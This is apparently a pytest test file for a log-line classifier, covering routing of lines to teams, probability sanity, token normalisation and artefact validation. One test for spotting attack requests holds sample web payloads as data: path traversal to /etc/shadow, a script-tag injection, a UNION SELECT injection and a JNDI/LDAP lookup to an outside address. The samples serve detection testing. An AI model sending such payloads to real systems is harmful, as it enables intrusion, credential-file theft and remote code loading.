import numpy as np
import pytest

from agents.logic.judging.classifier import ArtefactError, load_classifier, read_weights
from agents.logic.judging.features import BLOCKS, features_of
from agents.logic.judging.lexicon import classes_of
from agents.logic.judging.rows import RowFinder
from agents.logic.judging.words import words_of
from schemas.vocabulary import Category, Level, Severity

PLAIN = [
    ("sshd[811]: Failed password for admin from 203.0.113.9 port 4222 ssh2", Category.SECURITY),
    ("x509: certificate has expired or is not yet valid", Category.SECURITY),
    ("connect ECONNREFUSED 10.0.0.7:8080", Category.NETWORK),
    ("lookup orders.internal: no such host (NXDOMAIN)", Category.NETWORK),
    ("java.lang.OutOfMemoryError: Java heap space", Category.PERFORMANCE),
    ("java.lang.NullPointerException: value is null at com.acme.Cart.add", Category.APPLICATION),
    ("mysqld: Deadlock found when trying to get lock; transaction rolled back", Category.DATABASE),
    ("smartd: device /dev/sdc, 8 currently unreadable (pending) sectors", Category.HARDWARE),
    ("write /var/lib/app/data: no space left on device", Category.HARDWARE),
]


@pytest.mark.parametrize(("line", "category"), PLAIN)
def test_plain_cases_go_to_the_team_that_owns_them(line, category):
    assert load_classifier().score(line, Level.ERROR).category is category


def test_probabilities_are_probabilities():
    score = load_classifier().score("disk quota exceeded for user alice", Level.WARN, "files")
    assert set(score.category_probabilities) == set(Category)
    assert set(score.severity_probabilities) == set(Severity)
    assert sum(score.category_probabilities.values()) == pytest.approx(1)
    assert sum(score.severity_probabilities.values()) == pytest.approx(1)
    assert 0 < score.problem < 1
    assert score.subcategory


def test_a_problem_reads_worse_than_routine():
    classifier = load_classifier()
    bad = classifier.score("ERROR payment worker crashed: connection refused by bank gateway")
    calm = classifier.score("INFO request GET /health 200 OK in 3 ms")
    assert bad.problem > 0.8
    assert calm.problem < 0.2


@pytest.mark.parametrize("text", ["", "   ", "1234 5678", "\x00\x01", "é ü ß", "x" * 100_000])
def test_any_text_gets_a_judgement(text):
    score = load_classifier().score(text)
    assert sum(score.category_probabilities.values()) == pytest.approx(1)


def test_many_at_once_judge_as_one_by_one():
    classifier = load_classifier()
    texts = [line for line, _ in PLAIN] + [PLAIN[0][0]]
    levels = [Level.ERROR, None] * 5
    services = ["web", "db"] * 5
    together = classifier.score_many(texts, levels, services)
    assert together == [classifier.score(*key) for key in zip(texts, levels, services, strict=True)]


def test_the_variable_parts_of_a_line_change_nothing():
    classifier = load_classifier()
    one = classifier.score("read tcp 10.0.0.4:8080->10.0.0.9:51412: connection reset by peer")
    other = classifier.score("read tcp 10.9.8.7:80->192.0.2.99:40112: connection reset by peer")
    assert one == other


def test_the_fast_path_finds_the_rows_that_the_features_name():
    names = {name for line, _ in PLAIN for block in features_of(line) for name in block}
    known = sorted(names)[::2]
    vocabulary = {name: row for row, name in enumerate(known)}
    finder = RowFinder(vocabulary)
    for line, _ in [*PLAIN, *PLAIN]:
        blocks = features_of(line, Level.WARN, "postgres")
        expected = tuple(
            sorted(vocabulary[name] for name in block if name in vocabulary) for block in blocks
        )
        assert finder.rows(line, Level.WARN, "postgres") == expected


def test_blocks_are_named_as_often_as_they_are_made():
    assert len(features_of("a line with words")) == len(BLOCKS)


def test_words_leave_out_what_varies_and_keep_numbers_that_matter():
    line = '2026-03-11T08:14:02Z node12 GET /x HTTP/1.1" 503 took 1800ms, disk 97% 0xdeadbeef'
    words = words_of(line)
    assert {"http5xx", "durationlong", "percenthigh", "node"} <= set(words)
    assert "deadbeef" not in words
    assert "durationverylong" in words_of("pause of 14289.3ms")
    assert "repeatedmany" in words_of("14 consecutive failed logons")
    assert "repeatedmany" not in words_of("attempt 14 of 20")
    assert words_of("java.net.ConnectException") == ["java", "net", "connect", "exception"]
    assert words_of("can't <*> open <IP>") == ["cant", "open"]


@pytest.mark.parametrize(
    ("line", "attacks"),
    [
        ("GET /view?file=../../../etc/shadow HTTP/1.1", True),
        ("GET /?q=%3Cscript%3Ealert(1) HTTP/1.1", True),
        ("GET /?id=-1+UNION+SELECT+1,2 HTTP/1.1", True),
        ("GET /?x=${jndi:ldap://203.0.113.9/a} HTTP/1.1", True),
        ("    at run (../../src/node_main.cc:12)", False),
        ("could not resolve placeholder ${payment.url}", False),
        ("CMD (cd /srv && run | sh )", False),
    ],
)
def test_a_request_that_tries_to_break_in_is_told(line, attacks):
    assert ("attackpayload" in words_of(line)) is attacks


def test_the_thesaurus_knows_synonyms_and_prefixes():
    assert set(classes_of("refused")) & set(classes_of("rejected")) == {"REFUSE"}
    assert "CERT" in classes_of("certificates")
    assert classes_of("umbrella") == ()


def test_an_artefact_of_another_format_is_refused():
    with pytest.raises(ArtefactError, match="make baseline"):
        read_weights(b"", '{"format": 0}')


def test_an_artefact_whose_parts_disagree_is_refused(tmp_path):
    path = tmp_path / "bad.npz"
    np.savez(
        path,
        vocabulary=np.frombuffer(b"w:a\nw:b", dtype=np.uint8),
        rarity=np.ones(3, dtype=np.float16),
        matrix=np.ones((3, 2), dtype=np.int8),
        scale=np.ones(2, dtype=np.float32),
        bias=np.zeros(2, dtype=np.float32),
    )
    with pytest.raises(ArtefactError, match="names 2 features but holds weights for 3"):
        read_weights(path.read_bytes(), '{"format": 1}')
